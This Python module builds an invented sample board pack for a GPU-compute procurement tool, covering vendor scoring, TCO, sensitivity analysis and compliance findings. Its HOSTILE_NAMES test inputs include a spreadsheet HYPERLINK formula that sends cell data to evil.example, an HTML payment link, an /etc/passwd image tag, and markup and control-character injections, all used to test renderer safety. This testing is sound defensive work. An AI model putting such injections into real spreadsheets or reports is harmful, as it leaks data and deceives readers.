"""An illustrative board pack built by hand, for previews, screenshots and benchmarks.

The figures are invented but consistent: weighted totals are Σ weight × score,
ranks follow the totals, TCO totals are the sum of their lines, the weight flips are
solved exactly. Nothing here reads the store.
"""

from __future__ import annotations

import random
from dataclasses import replace
from datetime import date, timedelta
from decimal import Decimal

from computescore.domain.figures import ASSUMED, UNMEASURED, Input, format_usd
from computescore.domain.findings import Finding, FindingCategory, FindingSeverity
from computescore.domain.quotes import ExitTerms, FxRate
from computescore.domain.units import HOURS_PER_MONTH
from computescore.reports.model import (
    AXES,
    AxisScore,
    BoardPack,
    BreakEven,
    Methodology,
    MonteCarlo,
    MonteCarloRow,
    PackMeta,
    QuoteExit,
    QuoteLineRow,
    QuoteTco,
    Ranking,
    RankingRow,
    TcoLine,
    Tornado,
    TornadoBar,
    WeightFlip,
)

STEADY_WEIGHTS = (
    ("performance", 0.15),
    ("reliability", 0.30),
    ("cost", 0.15),
    ("service", 0.15),
    ("compliance", 0.25),
)
"""The steady-workload preset (resources/presets/weights.json)."""

VENDOR_NAMES = (
    "Northwind GPU Cloud",
    "Helios Compute AG",
    "Dragon Compute 数据",
    "Müller Rechenzentrum GmbH",
    "Contoso Hyperscale",
    "Fabrikam Servers Ltd",
    "Tailspin Pooled Compute",
    "Aurora AI Infrastructure",
    "Blue Yonder Colocation",
    "Kestrel Cloud",
    "Lumen Silicon Partners",
    "Orion GPU Leasing",
    "Pacific Rim Datacentres",
    "Quantum Harbor",
    "Redwood Compute Co-op",
    "Summit Systems",
    "Tidewater Hosting",
    "Umbra Networks",
    "Vantage Point Cloud",
    "Westgate Compute",
)

HOSTILE_NAMES = (
    "<b>Acme & Sons</b>",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1,1) Capital",
    "Acme $5 off, now $10 $\\foo$",
    'Dragon Compute 数据 <a href="https://evil.example/pay">click to approve</a>',
    "Smith <Jones> Ltd " + "very long name " * 30,
    "+1 Cloud\x00\x08\x0b",
    '-15.5 Hosting <font color="white">(disqualified)</font>',
    '#N/A Servers <img src="/etc/passwd"/>',
    "\t=1+1 Tab & <b>unclosed",
)
"""Names that try markup, formulas, mathtext, control characters, CJK and great length."""

_ACCELERATORS = (
    ("nvidia-h100-sxm", 0.989, Decimal("2.85")),
    ("nvidia-h200-sxm", 0.989, Decimal("3.60")),
    ("amd-mi300x", 1.307, Decimal("2.40")),
    ("nvidia-a100-sxm-80gb", 0.312, Decimal("1.45")),
    ("nvidia-b200", 2.25, Decimal("5.10")),
    ("nvidia-l40s", 0.362, Decimal("0.95")),
)

_COST_LINES = (
    ("network", "InfiniBand NDR fabric, 400 Gb/s per GPU", "per_month", Decimal("4200")),
    ("storage", "Parallel file system, 500 TB", "per_gb_month", Decimal("0.06")),
    ("support", "Enterprise support, 24×7, 15-min Sev-1 response", "per_month", Decimal("6500")),
    ("egress", "Data egress beyond free tier", "per_gb", Decimal("0.05")),
    ("installation", "On-boarding and cluster validation", "total", Decimal("18000")),
    ("software", "Cluster management licences", "per_year", Decimal("24000")),
    ("other", "Dedicated account team", "per_month", Decimal("1500")),
)


def _flips(rows: list[RankingRow], weights: tuple[tuple[str, float], ...]) -> list[WeightFlip]:
    """Per axis, the smallest single-weight change (others rescaled) that changes the leader.

    With weight a moved to x, a quote's total is x·s_a + (1 − x)·R, R = (T − w_a·s_a)/(1 − w_a);
    the leader and a challenger cross where that difference is zero.
    """
    ranked = sorted((r for r in rows if r.rank is not None), key=lambda r: r.rank or 0)
    if len(ranked) < 2:
        return []
    leader = ranked[0]
    out = []
    for axis, weight in weights:
        best: tuple[float, float, str] | None = None
        for challenger in ranked[1:]:
            r_l = (leader.weighted_total - weight * leader.score(axis)) / (1 - weight)
            r_c = (challenger.weighted_total - weight * challenger.score(axis)) / (1 - weight)
            d_rest = r_l - r_c
            d_axis = leader.score(axis) - challenger.score(axis)
            denominator = d_rest - d_axis
            if denominator == 0:
                continue
            x = d_rest / denominator
            if 0.0 <= x <= 1.0:
                distance = abs(x - weight)
                if best is None or distance < best[0]:
                    best = (distance, x, challenger.label)
        if best is not None:
            out.append(WeightFlip(axis, weight, best[1], best[2]))
    return sorted(out, key=lambda flip: abs(flip.weight_to - flip.weight_from))


def sample_pack(
    vendors: int = 6,
    lines_per_quote: int = 8,
    *,
    hostile: bool = False,
    seed: int = 7,
    generated_on: date = date(2026, 9, 28),
    monte_carlo: bool = True,
) -> BoardPack:
    """An illustrative, internally consistent board pack.

    Args:
        vendors: number of vendors, one quote each (1–20 named; more are numbered).
        lines_per_quote: quote lines per quote in the appendix.
        hostile: use names that attempt markup, formula and mathtext injection.
        seed: seed of the deterministic pseudo-random figures.
        generated_on: the render date printed in the pack.
        monte_carlo: include a Monte Carlo result.
    """
    rng = random.Random(seed)
    pool = HOSTILE_NAMES + VENDOR_NAMES if hostile else VENDOR_NAMES
    names = [pool[i] if i < len(pool) else f"Vendor {i + 1:02d}" for i in range(vendors)]
    decision = date(2026, 10, 15)
    horizon = 24
    gpus = 64
    hours_per_day = 18.0
    knocked = {3} if vendors > 3 else set()
    owned_index = 5 if vendors > 5 else None

    # --- scores and ranking ----------------------------------------------------
    totals: list[tuple[int, float, tuple[AxisScore, ...]]] = []
    for index in range(vendors):
        scores = []
        for axis in AXES:
            value = round(rng.uniform(45, 95), 1)
            flags: tuple[str, ...] = ()
            explanation = {
                "performance": f"measured MFU {rng.uniform(0.33, 0.52):.0%} on the buyer's model",
                "reliability": f"expected downtime cost net of SLA credits "
                f"${rng.uniform(8, 90):,.0f}k over {horizon} months",
                "cost": f"${rng.uniform(2.1, 4.9):.2f} per useful PFLOP-hour",
                "service": f"Sev-1 response {rng.choice([15, 30, 60, 240])} min",
                "compliance": "certifications valid on the decision date",
            }[axis]
            if axis == "performance" and index % 4 == 2:
                flags = (UNMEASURED,)
                explanation = "datasheet peak only; no proof of concept"
            scores.append(AxisScore(axis, value, explanation, flags))
        total = sum(w * s.score for (_, w), s in zip(STEADY_WEIGHTS, scores, strict=True))
        totals.append((index, total, tuple(scores)))
    order = sorted((t for t in totals if t[0] not in knocked), key=lambda t: -t[1])
    rank_of = {index: rank for rank, (index, _, _) in enumerate(order, start=1)}
    refs = [f"Q-{2026}-{100 + i * 7:03d}" for i in range(vendors)]
    rows = [
        RankingRow(
            quote_key=f"{names[i]}/{refs[i]}/r1",
            vendor=names[i],
            quote_ref=refs[i],
            scores=scores,
            weighted_total=total,
            rank=rank_of.get(i),
            knockout_reasons=(
                (
                    "Restricted-party screening: 94 % name match on the US Consolidated "
                    "Screening List (Entity List) dated 2026-09-01",
                )
                if i in knocked
                else ()
            ),
        )
        for i, total, scores in totals
    ]
    rows.sort(key=lambda r: (r.rank is None, r.rank or 0))
    flips = _flips(rows, STEADY_WEIGHTS)
    leader = rows[0] if rows and rows[0].rank == 1 else None
    runner = rows[1] if len(rows) > 1 and rows[1].rank == 2 else None
    margin = leader.weighted_total - runner.weighted_total if leader and runner else None
    if flips:
        flip = flips[0]
        robustness = (
            f"The leader changes only if the {flip.axis} weight moves from "
            f"{flip.weight_from:.0%} to {flip.weight_to:.0%} "
            f"({flip.change_points:+.0f} points), which would favour {flip.new_leader}."
        )
    else:
        robustness = "No change of a single weight between 0 % and 100 % changes the leader."
    ranking = Ranking(
        weights=STEADY_WEIGHTS,
        rows=tuple(rows),
        preset="steady",
        scale_note="Each metric maps linearly to 0–100 between a stated floor and ideal.",
        margin_points=margin,
        flips=tuple(flips),
        robustness=robustness,
    )

    # --- quote lines, TCO -------------------------------------------------------
    lines: list[QuoteLineRow] = []
    tcos: list[QuoteTco] = []
    exits: list[QuoteExit] = []
    hours_used = gpus * hours_per_day * 365 / 12 * horizon
    for i in range(vendors):
        accel, peak_pflops, base_price = _ACCELERATORS[i % len(_ACCELERATORS)]
        price = (base_price * Decimal(str(round(rng.uniform(0.85, 1.2), 2)))).quantize(
            Decimal("0.01")
        )
        currency = "EUR" if i % 5 == 1 else ("CNY" if i % 5 == 2 else "USD")
        fx = {"USD": 1.0, "EUR": 1.08, "CNY": 0.138}[currency]
        shown_price = (price / Decimal(str(fx))).quantize(Decimal("0.01"))
        source_file = f"quote_{i + 1:02d}_{refs[i]}.xlsx"
        owned = i == owned_index
        deployment = "purchase" if owned else ("reserved" if i % 3 else "on_demand")
        for n in range(lines_per_quote):
            row_no = 12 + n
            if n == 0:
                lines.append(
                    QuoteLineRow(
                        vendor=names[i],
                        quote_ref=refs[i],
                        kind="compute",
                        description=f"{gpus} × {accel} — {horizon}-month "
                        f"{deployment.replace('_', '-')} capacity",
                        price=Decimal("28500") if owned else shown_price,
                        price_unit="per_unit" if owned else "per_gpu_hour",
                        currency=currency,
                        quote_date=decision - timedelta(days=40 + i),
                        valid_until=decision + timedelta(days=45),
                        accelerator=accel,
                        accelerators_per_node=8,
                        nodes=gpus // 8,
                        accelerator_count=gpus,
                        deployment=deployment,
                        term_months=None if owned else horizon,
                        usd_per_gpu_hour=None if owned else float(price),
                        region="eu-central" if currency == "EUR" else "us-east",
                        country="DE"
                        if currency == "EUR"
                        else ("CN" if currency == "CNY" else "US"),
                        source=f"{source_file}!Pricing!{row_no}",
                    )
                )
                continue
            category, text, unit, amount = _COST_LINES[(n - 1) % len(_COST_LINES)]
            lines.append(
                QuoteLineRow(
                    vendor=names[i],
                    quote_ref=refs[i],
                    kind="cost",
                    description=text if n <= len(_COST_LINES) else f"{text} (option {n})",
                    price=(amount / Decimal(str(fx))).quantize(
                        Decimal("0.0001") if amount < 1 else Decimal("0.01")
                    ),
                    price_unit=unit,
                    currency=currency,
                    quote_date=decision - timedelta(days=40 + i),
                    valid_until=decision + timedelta(days=45),
                    category=category,
                    quantity=Decimal("500000") if unit in ("per_gb_month", "per_gb") else None,
                    region="eu-central" if currency == "EUR" else "us-east",
                    source=f"{source_file}!Pricing!{row_no}",
                )
            )
        tco_lines = _tco_lines(
            owned=owned,
            deployment=deployment,
            gpus=gpus,
            horizon=horizon,
            hours_per_day=hours_per_day,
            usd_per_gpu_hour=float(price),
            accel=accel,
            currency=currency,
            fx=fx,
            rng=rng,
        )
        total = sum(line.amount_usd for line in tco_lines)
        mfu = 0.4
        tcos.append(
            QuoteTco(
                quote_key=rows_by_index(rows, names[i], refs[i]),
                label=f"{names[i]} — {refs[i]}",
                horizon_months=horizon,
                lines=tco_lines,
                total_usd=total,
                used_gpu_hours=hours_used,
                usd_per_used_gpu_hour=total / hours_used,
                usd_per_useful_pflop_hour=total / (hours_used * peak_pflops * mfu),
                usd_per_million_tokens=total / (hours_used * 3600 * 2400 / 1e6)
                if i % 2 == 0
                else None,
                shortlisted=i not in knocked,
                notes=(f"Converted from {currency} at {fx} USD per {currency} (2026-09-01).",)
                if currency != "USD"
                else (),
            )
        )
        exits.append(
            QuoteExit(
                f"{names[i]} — {refs[i]}",
                ExitTerms(
                    notice_days=rng.choice([30, 60, 90, 180]),
                    termination_fee_pct=rng.choice([0.0, 10.0, 25.0, None]),
                    data_return=rng.choice([True, True, False, None]),
                    data_deletion=rng.choice([True, True, False]),
                    egress_usd_per_gb=rng.choice([Decimal("0.00"), Decimal("0.05"), None]),
                    auto_renewal=rng.choice([True, False]),
                    lock_in_notes=rng.choice(
                        [
                            "",
                            "Proprietary scheduler; jobs must be re-packaged on exit.",
                            "Reserved term non-cancellable; capacity may be resold.",
                        ]
                    ),
                ),
            )
        )
    tcos.sort(key=lambda item: (not item.shortlisted, item.total_usd))

    # --- break-even, tornado, Monte Carlo ---------------------------------------
    points = tuple(h / 2 for h in range(0, 49))
    capex = 2_650_000.0
    energy_per_hour = gpus * 1.25 * 1.3 * 0.14  # kW per GPU incl. host × PUE × USD/kWh
    days = horizon * 365 / 12
    owned_curve = tuple(capex + 310_000 + energy_per_hour * h * days for h in points)
    rent_rate = gpus * 3.90
    rented_curve = tuple(rent_rate * h * days for h in points)
    crossing = (capex + 310_000) / (days * (rent_rate - energy_per_hour))
    break_even = BreakEven(
        owned_label="Fabrikam Servers Ltd — purchase, 64 × H100 SXM",
        rented_label="Northwind GPU Cloud — on-demand at $3.90/GPU-h",
        hours_per_day=points,
        owned_usd=owned_curve,
        rented_usd=rented_curve,
        break_even_hours_per_day=crossing if 0 <= crossing <= 24 else None,
        horizon_months=horizon,
        note="Owned: hardware, installation and upgrades, energy at 1.25 kW per GPU, "
        "PUE 1.3, $0.14/kWh. Rented: on-demand price × GPUs × hours.",
    )
    lead_tco = next((t for t in tcos if leader and t.quote_key == leader.quote_key), None)
    base = lead_tco.total_usd if lead_tco else (tcos[0].total_usd if tcos else 1_000_000.0)
    tornado = Tornado(
        quote_label=lead_tco.label if lead_tco else "",
        base_usd=base,
        bars=(
            TornadoBar("Hours used per day", "12 h", "24 h", base * 0.93, base * 1.09),
            TornadoBar("Energy price", "$0.10/kWh", "$0.22/kWh", base * 0.985, base * 1.03),
            TornadoBar("MFU", "32 %", "48 %", base * 1.0, base * 1.0),
            TornadoBar("EUR/USD", "1.02", "1.15", base * 0.99, base * 1.012),
            TornadoBar("Egress volume", "200 TB", "1 PB", base * 0.995, base * 1.02),
        ),
        note="Each input moved alone between its low and high value; others at base.",
    )
    mc = (
        MonteCarlo(
            samples=10_000,
            seed=20261015,
            rows=tuple(
                MonteCarloRow(
                    t.quote_key,
                    t.label,
                    t.total_usd * 0.93,
                    t.total_usd * 1.01,
                    t.total_usd * 1.11,
                    round(max(0.0, 0.6 - 0.15 * k), 3),
                )
                for k, t in enumerate(tcos)
                if t.shortlisted
            ),
            ranges=(
                "Hours used per day: 12 / 18 / 24",
                "Energy price USD/kWh: 0.10 / 0.14 / 0.22",
                "MFU: 0.32 / 0.40 / 0.48",
            ),
        )
        if monte_carlo
        else None
    )

    # --- findings -----------------------------------------------------------------
    findings: list[Finding] = []
    for i, row in enumerate(rows):
        if row.knocked_out:
            findings.append(
                Finding(
                    row.quote_key,
                    FindingSeverity.KNOCKOUT,
                    FindingCategory.SCREENING,
                    "Possible restricted party",
                    row.knockout_reasons[0],
                    "screening.csl",
                    "2026-09-01",
                    "list dated 2026-09-01",
                    "US Consolidated Screening List CSV",
                )
            )
        if i % 3 == 1:
            findings.append(
                Finding(
                    row.quote_key,
                    FindingSeverity.WARNING,
                    FindingCategory.CERTIFICATION,
                    "ISO/IEC 27001 certificate expires before go-live",
                    "Certificate valid to 2026-12-31; the horizon runs to 2028-10.",
                    "cert.iso27001.valid_on_decision",
                    "",
                    "user threshold",
                    "Evaluation settings: required certifications",
                )
            )
        if i % 4 == 0:
            findings.append(
                Finding(
                    row.quote_key,
                    FindingSeverity.INFO,
                    FindingCategory.EXPORT_CONTROL,
                    "3A090.a.1: no licence needed for US deployment",
                    "TPP = 989.5 TFLOP/s × 16 bit = 15,832 ≥ 4,800; destination US is not "
                    "in D:1, D:4, D:5 or Macau.",
                    "us.3A090.a.1.v2023",
                    "2023-11-17",
                    "codified",
                    "15 CFR 774 Supp. 1, ECCN 3A090; 88 FR 73458",
                )
            )
        if i % 5 == 2:
            findings.append(
                Finding(
                    row.quote_key,
                    FindingSeverity.WARNING,
                    FindingCategory.EXIT_TERMS,
                    "Notice period 180 days",
                    "Notice of 180 days exceeds the 90-day threshold.",
                    "exit.notice_days",
                    "",
                    "user threshold",
                    "Evaluation settings: exit terms",
                )
            )

    methodology = Methodology(
        formulas=(
            ("Training compute", "6 × parameters × tokens (FLOP)"),
            ("Inference compute", "2 × parameters FLOP per token"),
            ("GPU-hours", "FLOP ÷ (peak dense FLOP/s × MFU × 3600)"),
            ("Committed capacity", "GPUs × term months × 730 h × USD per GPU-hour"),
            ("Energy", "power kW × PUE × hours × USD per kWh"),
            ("Cost per useful PFLOP-hour", "TCO ÷ (peak PFLOP/s × MFU × hours used)"),
            ("Weighted total", "Σ weight × axis score, weights normalised to sum to 1"),
        ),
        assumptions=(
            Input("Hours used per day", hours_per_day, "h", "evaluation assumption"),
            Input("MFU where not measured", 0.4, "", "evaluation assumption"),
            Input("Energy price", 0.14, "USD/kWh", "evaluation assumption"),
            Input("PUE", 1.3, "", "evaluation assumption"),
            Input("Horizon", float(horizon), "months", "evaluation"),
        ),
        fx_rates=(
            FxRate("EUR", Decimal("1.08"), date(2026, 9, 1), "ECB reference rate"),
            FxRate("CNY", Decimal("0.138"), date(2026, 9, 1), "PBoC central parity"),
        ),
        rules_version="us-ear 2026-1",
        rules_date="2026-01-15",
        catalogue_version="2026.2",
        catalogue_sources=(
            "NVIDIA H100 Tensor Core GPU datasheet (2023)",
            "AMD Instinct MI300X data sheet (2023)",
            "NVIDIA A100 datasheet (2021)",
        ),
        measured=("MFU from proofs of concept for quotes flagged measured",),
        assumed=(
            "Utilisation of 18 hours per day",
            "Energy price and PUE for owned capacity",
            "Datasheet peak FLOP/s for quotes without a proof of concept",
        ),
        notes=(
            "Export-control findings are advisory: the final classification is the "
            "exporter's and legal review is required.",
        ),
    )

    leader_name = leader.label if leader else "no quote"
    recommendation = (
        f"Award the capacity to {leader_name}, which leads on the weighted scorecard"
        + (f" by {margin:.1f} points" if margin is not None else "")
        + (
            f" at a total cost of {format_usd(lead_tco.total_usd)} over {horizon} months."
            if lead_tco
            else "."
        )
    )
    risks = tuple(
        r
        for r in (
            robustness,
            "Two quotes rest on datasheet performance only; a proof of concept could move "
            "their performance scores by up to 20 points.",
            "Euro- and renminbi-priced quotes carry currency risk of ±6 % on TCO.",
        )
    )
    meta = PackMeta(
        evaluation="2027 inference pool" if not hostile else "Hostile names <b>test</b> & $x$",
        decision_date=decision,
        prepared_by="Strategic Sourcing — Compute Category Team",
        confidentiality="Confidential — board use only",
        generated_on=generated_on,
        end_user="Example Bank plc",
        description="Production inference capacity for retrieval-augmented assistants, 2027–2028.",
        workloads=("RAG assistants (steady): 64 GPUs, 18 h/day, 24 months, confidential data",),
        app_version="0.1.0",
    )
    return BoardPack(
        meta=meta,
        recommendation=recommendation,
        ranking=ranking,
        tco=tuple(tcos),
        break_even=break_even,
        tornado=tornado,
        monte_carlo=mc,
        findings=tuple(findings),
        risks=risks,
        exit_terms=tuple(exits),
        methodology=methodology,
        lines=tuple(lines),
    )


def rows_by_index(rows: list[RankingRow], vendor: str, ref: str) -> str:
    """The quote key of the row for ``vendor`` and ``ref``."""
    for row in rows:
        if row.vendor == vendor and row.quote_ref == ref:
            return row.quote_key
    return f"{vendor}/{ref}/r1"


def _tco_lines(
    *,
    owned: bool,
    deployment: str,
    gpus: int,
    horizon: int,
    hours_per_day: float,
    usd_per_gpu_hour: float,
    accel: str,
    currency: str,
    fx: float,
    rng: random.Random,
) -> tuple[TcoLine, ...]:
    src = "quote line 1"
    if owned:
        hours = gpus * hours_per_day * 365 / 12 * horizon
        return (
            TcoLine(
                "Hardware: 8 × 8-GPU servers",
                "hardware",
                8 * 285_000.0,
                "servers × price per server",
                (Input("servers", 8.0, "", src), Input("price", 285_000.0, "USD", src)),
            ),
            TcoLine(
                "Installation",
                "installation",
                45_000.0,
                "as quoted",
                (Input("price", 45_000.0, "USD", "quote line 5"),),
            ),
            TcoLine("Power-distribution upgrade", "power", 38_000.0, "as quoted", (), (ASSUMED,)),
            TcoLine("Cooling upgrade", "facility", 72_000.0, "as quoted", (), (ASSUMED,)),
            TcoLine(
                "Energy",
                "energy",
                1.25 * 1.3 * 0.14 * hours,
                "power per GPU kW × PUE × GPU-hours × USD per kWh",
                (
                    Input("power", 1.25, "kW/GPU", "catalogue"),
                    Input("PUE", 1.3, "", "assumption"),
                    Input("GPU-hours", hours, "GPU-h", "assumption"),
                    Input("price", 0.14, "USD/kWh", "assumption"),
                ),
                (ASSUMED,),
            ),
            TcoLine(
                "Colocation space",
                "facility",
                80 * 165.0 * horizon,
                "kW × USD per kW-month × months",
                (
                    Input("capacity", 80.0, "kW", "quote"),
                    Input("rate", 165.0, "USD/kW-month", "quote"),
                    Input("months", float(horizon), "", "evaluation"),
                ),
            ),
            TcoLine(
                "Operations staff overhead",
                "operations",
                hours * 3.0,
                "GPU-hours used × USD per GPU-hour",
                (
                    Input("GPU-hours", hours, "GPU-h", "sizing"),
                    Input("rate", 3.0, "USD/GPU-h", "assumption"),
                ),
                (ASSUMED,),
            ),
            TcoLine(
                "Residual value at horizon end",
                "residual",
                -0.45 * 8 * 285_000.0,
                "hardware × residual fraction",
                (
                    Input("hardware", 2_280_000.0, "USD", src),
                    Input("residual", 0.45, "", "assumption"),
                ),
                (ASSUMED,),
            ),
        )
    committed = deployment in ("reserved", "lease")
    hours = (
        gpus * horizon * HOURS_PER_MONTH if committed else gpus * hours_per_day * 365 / 12 * horizon
    )
    compute_formula = (
        "GPUs × term months × 730 h × USD/GPU-h" if committed else "GPUs × hours used × USD/GPU-h"
    )
    via = f" (quoted in {currency}, × {fx} USD/{currency})" if currency != "USD" else ""
    return (
        TcoLine(
            f"{accel} {deployment.replace('_', '-')} capacity{via}",
            "compute",
            hours * usd_per_gpu_hour,
            compute_formula,
            (
                Input("GPUs", float(gpus), "", src),
                Input("term", float(horizon), "months", "quote")
                if committed
                else Input("hours used per GPU", hours / gpus, "h", "assumption"),
                Input("price", usd_per_gpu_hour, "USD/GPU-h", src),
            ),
        ),
        TcoLine(
            "InfiniBand fabric",
            "network",
            4200.0 * horizon,
            "USD per month × months",
            (
                Input("monthly", 4200.0, "USD", "quote line 2"),
                Input("months", float(horizon), "", "evaluation"),
            ),
        ),
        TcoLine(
            "Parallel storage 500 TB",
            "storage",
            500_000 * 0.06 * horizon,
            "GB × USD per GB-month × months",
            (
                Input("capacity", 500_000.0, "GB", "quote line 3"),
                Input("price", 0.06, "USD/GB-month", "quote line 3"),
            ),
        ),
        TcoLine(
            "Enterprise support",
            "support",
            6500.0 * horizon,
            "USD per month × months",
            (Input("monthly", 6500.0, "USD", "quote line 4"),),
        ),
        TcoLine(
            "Egress",
            "egress",
            rng.choice([200_000, 500_000, 800_000]) * 0.05,
            "GB egressed × USD per GB",
            (
                Input("volume", 500_000.0, "GB", "assumption"),
                Input("price", 0.05, "USD/GB", "quote line 5"),
            ),
            (ASSUMED,),
        ),
        TcoLine(
            "On-boarding",
            "installation",
            18_000.0,
            "as quoted",
            (Input("price", 18_000.0, "USD", "quote line 6"),),
        ),
    )


def with_sections_missing(pack: BoardPack) -> BoardPack:
    """The same pack with every optional section absent (for "not computed" wording)."""
    return replace(
        pack,
        ranking=None,
        tco=(),
        break_even=None,
        tornado=None,
        monte_carlo=None,
        findings=None,
        risks=(),
        exit_terms=(),
        lines=(),
        recommendation="",
    )
